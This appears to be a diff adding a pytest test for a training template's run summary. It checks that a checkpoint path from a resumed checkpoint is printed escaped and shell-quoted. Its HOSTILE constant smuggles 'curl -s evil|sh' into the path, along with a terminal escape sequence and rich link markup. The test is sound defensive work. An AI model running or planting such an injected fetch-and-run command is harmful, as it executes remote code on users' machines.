@@ -1,0 +1,48 @@
+"""The run summary: what a resumed checkpoint's state supplied reaches the terminal harmless."""
+
+import re
+import shlex
+from pathlib import Path
+from types import SimpleNamespace
+
+import torch
+from lightning.pytorch.callbacks import ModelCheckpoint
+
+from template.summary import print_summary
+
+# A title-changing escape sequence, rich markup and a second command, as a checkpoint from elsewhere may record them.
+HOSTILE = (
+    "runs/pets/version_0/checkpoints/best.ckpt; curl -s evil|sh; \x1b]0;PWNED\x1b\\[link=https://evil]click[/link]"
+)
+
+
+def fitted(best_model_path: str) -> SimpleNamespace:
+    """What print_summary reads of a CLI after a fit whose ModelCheckpoint state came with a resumed checkpoint."""
+    best = ModelCheckpoint(monitor="val/acc", mode="max")
+    best.best_model_path, best.best_model_score = best_model_path, torch.tensor(0.75)
+    last = ModelCheckpoint()
+    last.best_model_path = str(Path(best_model_path).parent / "last.ckpt")
+    trainer = SimpleNamespace(checkpoint_callbacks=[best, last], callbacks=[best, last], loggers=[None])
+    return SimpleNamespace(
+        trainer=trainer, datamodule=SimpleNamespace(root="images"), run_name=None, config={}, subcommand="fit"
+    )
+
+
+def test_a_checkpoint_path_from_elsewhere_is_shown_escaped_and_its_test_command_quoted(capsys):
+    print_summary(fitted(HOSTILE), Path("runs/pets/version_0"))
+    out = capsys.readouterr().out
+    assert "\x1b" not in out and "\\x1b]0;PWNED\\x1b\\" in out  # the escape sequence shown, not run
+    assert "[link=https://evil]click[/link]" in out  # rich's markup shown as text, not made a link
+    test = shlex.split(re.search(r"test it, once: +(.*)", out).group(1))
+    assert test[:3] == ["template", "test", "--ckpt_path"] and test[4:] == ["--data.root", "images"]
+    assert test[3].startswith("runs/pets/") and "curl -s evil|sh" in test[3]  # one argument: no second command
+
+    # An ordinary path: as it always was, ready to paste.
+    print_summary(fitted("runs/pets/version_0/checkpoints/best.ckpt"), Path("runs/pets/version_0"))
+    out = capsys.readouterr().out
+    assert (
+        "test it, once:   template test --ckpt_path runs/pets/version_0/checkpoints/best.ckpt --data.root images\n"
+        in out
+    )
+    assert "best checkpoint  runs/pets/version_0/checkpoints/best.ckpt\n" in out and "best val/acc     0.7500" in out
+    assert "curves:          tensorboard --logdir runs/pets/version_0\n" in out
